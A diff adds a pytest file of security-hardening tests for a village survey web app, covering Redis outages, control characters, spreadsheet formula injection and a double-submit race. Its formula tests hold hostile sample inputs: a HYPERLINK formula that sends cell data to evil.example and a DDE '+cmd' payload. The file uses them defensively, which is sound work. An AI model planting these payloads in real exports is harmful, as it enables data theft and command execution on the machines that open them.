@@ -1,0 +1,220 @@
+"""Issue 15 (hardening): each attack or fault the test of the running service found.
+
+Every test here failed on the code before the fix it names.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import logging
+import re
+import zipfile
+
+import openpyxl
+from sqlalchemy import func, select
+from sqlalchemy.orm import sessionmaker
+
+from survey_app.models import Response, Village
+from tests.conftest import PASSWORD, load_demo
+from tests.test_collection import answer, card_of, open_form, poster_of, receipt_in
+
+UNREACHABLE_REDIS = "redis://127.0.0.1:1/0"
+
+
+@contextlib.contextmanager
+def own_app(database_url, tmp_path, **config):
+    """An app with its own configuration (rate limits on), inside a rolled-back transaction."""
+    from survey_app import create_app
+    from survey_app.db import get_db
+
+    settings = {"DATABASE_URL": database_url, "TESTING": True, "SECRET_KEY": "x", "RATELIMIT_ENABLED": True,
+                "UPLOAD_FOLDER": str(tmp_path), "WTF_CSRF_ENABLED": False, **config}
+    app = create_app(settings)
+    database = get_db(app)
+    connection = database.engine.connect()
+    outer = connection.begin()
+    database.sessionmaker = sessionmaker(bind=connection, join_transaction_mode="create_savepoint",
+                                         expire_on_commit=False)
+    try:
+        yield app
+    finally:
+        outer.rollback()
+        connection.close()
+        database.engine.dispose()
+
+
+def _demo(app):
+    from survey_app.db import get_db
+
+    session = get_db(app).session()
+    unit, published = load_demo(session)
+    return session, unit, published
+
+
+# -- 1: a Redis outage must not stop villagers from answering ---------------------------------------
+
+
+def test_redis_outage_fails_open_to_memory_limits(database_url, tmp_path, caplog):
+    with own_app(database_url, tmp_path, REDIS_URL=UNREACHABLE_REDIS, RATELIMIT_STORAGE_URI=UNREACHABLE_REDIS,
+                 RESPOND_LIMIT_DEVICE="2 per minute") as app:
+        session, unit, published = _demo(app)
+        poster = published[0][1]
+        client = app.test_client()
+        caplog.set_level(logging.WARNING)
+        statuses = []
+        for _ in range(3):
+            _, token = open_form(client, poster)
+            statuses.append(answer(client, poster, token, village=str(unit.villages[0].id)).status_code)
+        assert statuses == [200, 200, 429]  # answered, and limited in memory meanwhile
+        assert any("memory" in r.getMessage().lower() for r in caplog.records if r.levelno >= logging.WARNING)
+        assert client.get("/receipt?code=AAAA-BBBB").status_code == 404
+
+
+# -- 4: control characters are refused with a Chinese message, answers kept ---------------------------
+
+
+def test_nul_in_a_comment_is_refused_and_the_answers_kept(client, published, session):
+    link = poster_of(published["村办公经费"])
+    _, token = open_form(client, link)
+    response = answer(client, link, token, aspect_1="否", comment="路灯\x00坏了")
+    html = response.get_data(as_text=True)
+    assert response.status_code == 422 and "控制字符" in html
+    assert 'value="否" checked' in html and "路灯坏了" in html and "\x00" not in html
+    assert session.scalar(select(func.count(Response.id))) == 0
+    assert receipt_in(answer(client, link, token, aspect_1="否", comment="路灯坏了").get_data(as_text=True))
+
+
+def test_nul_in_receipt_query_and_login_name(client, users):
+    response = client.get("/receipt?code=%00")
+    assert response.status_code in (200, 404) and "回执" in response.get_data(as_text=True)
+    login = client.post("/auth/login", data={"username": "ad\x00min", "password": PASSWORD})
+    assert login.status_code == 200 and "控制字符" in login.get_data(as_text=True)
+
+
+def test_nul_in_staff_text_fields(client, auth, published, session):
+    from survey_app.models import Unit
+
+    auth.login("staff")
+    unit = session.scalar(select(Unit))
+    page = client.post(f"/units/{unit.id}/villages/new", data={"name": "新\x00村", "population": "10"})
+    html = page.get_data(as_text=True)
+    assert page.status_code == 200 and "控制字符" in html and "新村" in html
+    assert session.scalar(select(Village).where(Village.name.contains("新"))) is None
+    q = published["村办公经费"]
+    link = poster_of(q)
+    _, token = open_form(client, link)
+    receipt = receipt_in(answer(client, link, token).get_data(as_text=True))
+    bad_receipt = client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": "\x00", "reason": "重复"},
+                              follow_redirects=True)
+    assert bad_receipt.status_code == 200
+    bad_reason = client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": receipt, "reason": "重复\x00"},
+                             follow_redirects=True)
+    assert bad_reason.status_code == 200 and "控制字符" in bad_reason.get_data(as_text=True)
+    note = client.post("/audit/head/publish", data={"note": "月底\x00"}, follow_redirects=True)
+    assert note.status_code == 200 and "控制字符" in note.get_data(as_text=True)
+
+
+def _stored_response(session, q, comment):
+    from survey_app.services.collection import Answers, new_submission_key, submit
+
+    poster = poster_of(q)
+    answers = Answers({"satisfaction": "满意", "identity": "其他", "comment": comment}, "满意", comment, poster.village_id)
+    response, _ = submit(session, link=poster, version=q.current_version, answers=answers,
+                         submission_key=new_submission_key(), channel="poster")
+    session.commit()
+    return response
+
+
+def test_exports_survive_control_characters_already_stored(client, auth, published, session):
+    q = published["村办公经费"]
+    _stored_response(session, q, "旧数据\x01\x0b里有控制字符")
+    auth.login("auditor")
+    for fmt in ("xlsx", "csv"):
+        response = client.get(f"/audit/export/responses.{fmt}")
+        assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/audit/export/responses.xlsx").data)).active
+    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "旧数据里有控制字符" in values
+
+
+# -- 3: formula injection --------------------------------------------------------------------------
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+
+
+def _no_formulas(data: bytes) -> list[str]:
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    return [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_villager_formula_is_inert_in_every_export(client, auth, published, session, tmp_path):
+    from analysis.verify import verify_bundle
+
+    q = published["村办公经费"]
+    link = poster_of(q)
+    _, token = open_form(client, link)
+    receipt = receipt_in(answer(client, link, token, comment=FORMULA).get_data(as_text=True))
+    assert receipt
+    assert session.scalar(select(Response.comment)) == FORMULA  # stored exactly as typed
+    auth.login("admin")
+    assert _no_formulas(client.get("/audit/export/responses.xlsx").data) == []
+    text = client.get("/audit/export/responses.csv").get_data(as_text=True)
+    assert "'" + FORMULA.replace('"', '""') in text
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in text.splitlines() for cell in line.split(","))
+    client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": receipt, "reason": "=1+1 重复"})
+    data = client.get("/audit/bundle.zip").data
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    for name in ("responses.csv", "exclusions.csv", "audit_log.csv", "cards.csv"):
+        body = archive.read(name).decode("utf-8")
+        assert not re.search(r'(^|,)"?[=+@]', body, re.M), name
+    path = tmp_path / "bundle.zip"
+    path.write_bytes(data)
+    assert verify_bundle(str(path)).ok  # the canonical data stays exact: the hashes still match
+
+
+def test_staff_text_formulas_are_inert(client, auth, published, session):
+    from survey_app.services.villages import save_village
+
+    q = published["村办公经费"]
+    project = q.indicator.project
+    project.goal = "=SUM(A1:A9)"
+    project.name = "+cmd|' /C calc'!A0"
+    save_village(session, project.unit, actor="t", name="@村", population=5, cadres=1)
+    session.commit()
+    auth.login("admin")
+    assert _no_formulas(client.get(f"/projects/{project.id}/self-evaluation.xlsx").data) == []
+    assert _no_formulas(client.get(f"/units/{project.unit_id}/self-evaluation.xlsx").data) == []
+    assert client.get(f"/projects/{project.id}/self-evaluation.docx").status_code == 200
+    links = zipfile.ZipFile(io.BytesIO(client.get(f"/questionnaires/{q.id}/bundle.zip").data)).read("links.csv")
+    assert not re.search(r'(^|,)"?[=+@]', links.decode("utf-8-sig"), re.M)
+
+
+def test_safe_cell_rules():
+    from survey_app.services.cellsafe import safe_cell, unescape_exact
+
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("\tx") == "'\tx"
+    assert safe_cell("-3.5") == "-3.5" and safe_cell("+12%") == "+12%" and safe_cell(-3) == -3
+    assert safe_cell("a\x00b\x01") == "ab" and safe_cell(None) is None
+    for value in ("=1", "'=1", "''", "'", "plain", "a\x01b", "-1", "- 1", "@"):
+        assert unescape_exact(safe_cell(value, exact=True)) == value
+
+
+# -- 9: a double tap on a card finds its own receipt first ----------------------------------------
+
+
+def test_card_double_tap_shows_the_receipt_not_used(client, published, session, monkeypatch):
+    import survey_app.respond.views as views
+    from survey_app.services import collection
+
+    card = card_of(published["村干部工资"], 3)
+    _, token = open_form(client, card)
+    receipt = receipt_in(answer(client, card, token).get_data(as_text=True))
+    # the second tap read "no response for this form" just before the first one committed
+    monkeypatch.setattr(views, "find_by_key", lambda *a, **k: None)
+    monkeypatch.setattr(collection, "find_by_key", lambda *a, **k: None)
+    again = answer(client, card, token)
+    html = again.get_data(as_text=True)
+    assert again.status_code == 200 and "此二维码已使用" not in html and receipt_in(html) == receipt
+    assert session.scalar(select(func.count(Response.id)).where(Response.card_id == card.id)) == 1
